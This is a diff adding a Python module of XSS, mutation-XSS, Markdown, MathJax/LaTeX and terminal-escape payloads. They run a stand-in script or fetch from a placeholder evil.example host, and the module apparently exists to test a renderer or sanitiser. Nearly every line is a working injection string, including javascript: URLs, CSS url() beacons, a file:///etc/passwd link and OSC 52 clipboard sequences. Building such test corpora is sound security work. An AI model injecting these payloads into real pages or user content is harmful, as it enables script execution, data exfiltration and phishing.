@@ -1,0 +1,155 @@
+"""Texts that are meant to become more than text: each would, if it got through, run a script or fetch an address.
+
+What runs sets `window.hacked`; what fetches asks for `evil.example`. Some are written for a parser, some for MathJax,
+some for what looks after them: an attribute, a style, a template, a sanitiser that repairs what is broken.
+"""
+
+from __future__ import annotations
+
+RUN = "window.hacked=1"
+EVIL = "https://evil.example/"
+
+TAGS = [
+    f"<script>{RUN}</script>",
+    f"<script src={EVIL}a.js></script>",
+    f"<ScRiPt>{RUN}</sCrIpT>",
+    f"<img src=x onerror={RUN}>",
+    f'<img src="{EVIL}a.png">',
+    f"<img srcset='{EVIL}b.png 1x' src='{EVIL}b.png'>",
+    f"<img/src='x'/onerror='{RUN}'>",
+    f"<picture><source srcset={EVIL}c.webp><img src=x></picture>",
+    f"<iframe src={EVIL}d></iframe>",
+    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
+    f"<object data={EVIL}e.svg></object>",
+    f"<embed src={EVIL}f.swf>",
+    f"<svg onload={RUN}><image href={EVIL}g.png /></svg>",
+    f"<svg><script>{RUN}</script></svg>",
+    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
+    f"<svg><use href='{EVIL}h.svg#x'></svg>",
+    f"<style>@import '{EVIL}i.css'; body{{display:none}}</style>",
+    f"<link rel=stylesheet href={EVIL}j.css>",
+    f"<link rel=prefetch href={EVIL}k>",
+    f'<meta http-equiv=refresh content="0;url={EVIL}l">',
+    f"<base href={EVIL}>",
+    f"<form action={EVIL}m><input name=q autofocus onfocus={RUN}><button>Go</button></form>",
+    f"<video src={EVIL}n.mp4 autoplay></video>",
+    f"<audio src={EVIL}o.mp3 autoplay></audio>",
+    f"<video poster={EVIL}p.png></video>",
+    f"<body background={EVIL}q.png onload={RUN}>",
+    f"<table background={EVIL}r.png><tr><td background={EVIL}s.png>x</table>",
+    f"<details open ontoggle={RUN}><summary>x</summary></details>",
+    f"<marquee onstart={RUN}>x</marquee>",
+    f"<template><img src={EVIL}t.png></template>",
+    f"<noscript><img src={EVIL}u.png></noscript>",
+    f"<textarea autofocus onfocus={RUN}></textarea>",
+    f"<a href='javascript:{RUN}' autofocus>x</a>",
+    f"<a ping={EVIL}v href=#>x</a>",
+    f'<h1 style="background:url({EVIL}w.png);position:fixed;inset:0">Sign in</h1>',
+    f'<h1/style="background:url({EVIL}x.png)">Sign in</h1>',
+    f'<div style="background-image:image-set(url({EVIL}y.png) 1x)">x</div>',
+    f'<p style="list-style:url({EVIL}z.png)">x</p>',
+    f"<input type=image src={EVIL}aa.png>",
+    "</div></div></details></summary></td></tr></table><h1>out</h1>",
+    f"<!--><img src=x onerror={RUN}>-->",
+    f"<![CDATA[<img src=x onerror={RUN}>]]>",
+    f"<?xml-stylesheet href='{EVIL}bb.css'?>",
+    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
+    f"<math href='javascript:{RUN}'><mi>x</mi></math>",
+    f"<math><maction actiontype=statusline xlink:href='javascript:{RUN}'>x</maction></math>",
+    f"<math><annotation-xml encoding='text/html'><img src=x onerror={RUN}></annotation-xml></math>",
+    f"<svg></p><style><a title='</style><img src=x onerror={RUN}>'>",
+    f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{RUN}</x:script>",
+    f"<img src=x onerror={RUN}//",
+    f"<<script>{RUN}//<</script>",
+    f'"><img src=x onerror={RUN}>',
+    f"'><img src=x onerror={RUN}>",
+    f'" onmouseover="{RUN}" autofocus onfocus="{RUN}',
+    f"\x00<img src=x onerror={RUN}>",
+    f"<\x00img src=x onerror={RUN}>",
+    f"<img src=x \x1b[31monerror={RUN}>",
+    f"<img\u2028src=x\u2028onerror={RUN}>",
+    f"\ud800<img src=x onerror={RUN}>\udfff",
+    f"\ue000</slot><img src=x onerror={RUN}>",
+    f'{{slot}} data-s="0"><img src=x onerror={RUN}>',
+]
+FORMULAS = [
+    "\\text{%s}",
+    "\\mbox{%s}",
+    "\\text{</math>%s}",
+    "\\text{</mtext></math></span>%s}",
+    "\\textbf{a %s b}",
+    "\\operatorname{%s}",
+    "a<%s",
+    "\\tag{%s}",
+    "\\fbox{%s}",
+    "\\hbox{x $y$ %s}",
+]
+COMMANDS = [
+    f"\\href{{javascript:{RUN}}}{{x}}",
+    f"\\href{{{EVIL}math}}{{x}}",
+    f"\\url{{javascript:{RUN}}}",
+    f"\\style{{background:url({EVIL}cc.png)}}{{x}}",
+    "\\class{jp-mod-active}{x}",
+    "\\cssId{main}{x}",
+    "\\newcommand{\\pi}{PWNED}\\pi",
+    "\\renewcommand{\\pi}{PWNED}\\pi",
+    "\\providecommand{\\pi}{PWNED}\\pi",
+    "\\DeclareMathOperator{\\pi}{PWNED}\\pi",
+    "\\newenvironment{matrix}{PWNED}{}\\pi",
+    "\\renewenvironment{matrix}{PWNED}{}\\pi",
+    "\\def\\pi{PWNED}\\pi",
+    "\\let\\pi\\sigma\\pi",
+    "\\newcommand\\pi{PWNED}",
+    "\\global\\def\\pi{PWNED}",
+    f"\\bbox[background:url({EVIL}dd.png)]{{x}}",
+    f"\\htmlStyle{{background:url({EVIL}ee.png)}}{{x}}",
+    "\\htmlClass{jp-mod-active}{x}",
+    "\\htmlId{main}{x}",
+    "\\htmlData{x=y}{z}",
+    "\\require{html}\\href{x}{y}",
+    "\\require{action}\\toggle{a}{b}\\endtoggle",
+    f"\\includegraphics{{{EVIL}ff.png}}",
+    "\\unicode[url]{65}",
+    "\\begin{newcommand}{\\pi}{PWNED}\\end{newcommand}",
+    "\\begin{\\newcommand}\\end{x}",
+    "\\csname newcommand\\endcsname{\\pi}{PWNED}",
+    "\\catcode`\\@=0 @newcommand",
+    "\\rule{9999em}{9999em}",
+    "\\raise9999em{x}",
+    "\\hspace{-9999em}x",
+]
+MARKDOWN = [
+    f"![a]({EVIL}gg.png)",
+    f"![a][i]\n\n[i]: {EVIL}hh.png",
+    f"![a](<{EVIL}ii.png> 't')",
+    "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
+    f"[a](javascript:{RUN})",
+    f"[a](JaVaScRiPt:{RUN})",
+    f"[a](java\nscript:{RUN})",
+    f"[a](&#106;avascript:{RUN})",
+    f"[a](javascript&colon;{RUN})",
+    f"[a](\x01javascript:{RUN})",
+    f"[a](data:text/html,<script>{RUN}</script>)",
+    "[a](vbscript:x) [b](file:///etc/passwd) [c](//evil.example/x)",
+    f"<javascript:{RUN}>",
+    f"[a]({EVIL}jj 'x\" onmouseover=\"{RUN}')",
+    f'```"><img/src=x/onerror={RUN}>\n</code></pre><script>{RUN}</script>\n```',
+    f"| <img src=x onerror={RUN}> |\n|---|\n| <script>{RUN}</script> |",
+    f"[^<img src=x onerror={RUN}>]\n\n[^<img src=x onerror={RUN}>]: <img src=x onerror={RUN}>",
+    f"- [ ] <img src=x onerror={RUN}>\n- `<script>{RUN}</script>`",
+    f"> <details open ontoggle={RUN}>\n> x",
+    "\x1b]8;;https://evil.example\x07link\x1b]8;;\x07 \x1b[31mred\x1b[0m \x9b31m",
+    "\x1b]52;c;aGFjaw==\x07 \x9d52;c;aGFjaw==\x9c \x1bP+q\x1b\\",
+]
+_INNER = [TAGS[0], TAGS[3], TAGS[4], TAGS[34], TAGS[35]]
+MATH = [
+    f"{before}{formula % inner}{after}"
+    for before, after in (("$", "$"), ("\\(", "\\)"), ("\n\n$$\n", "\n$$\n\n"))
+    for formula in FORMULAS
+    for inner in _INNER
+] + [
+    f"{before}{command}{after}"
+    for before, after in (("$", "$"), ("\\[", "\\]"), ("\\begin{equation}", "\\end{equation}"), ("", ""))
+    for command in COMMANDS
+]
+PAYLOADS = [*TAGS, *MARKDOWN, *MATH]
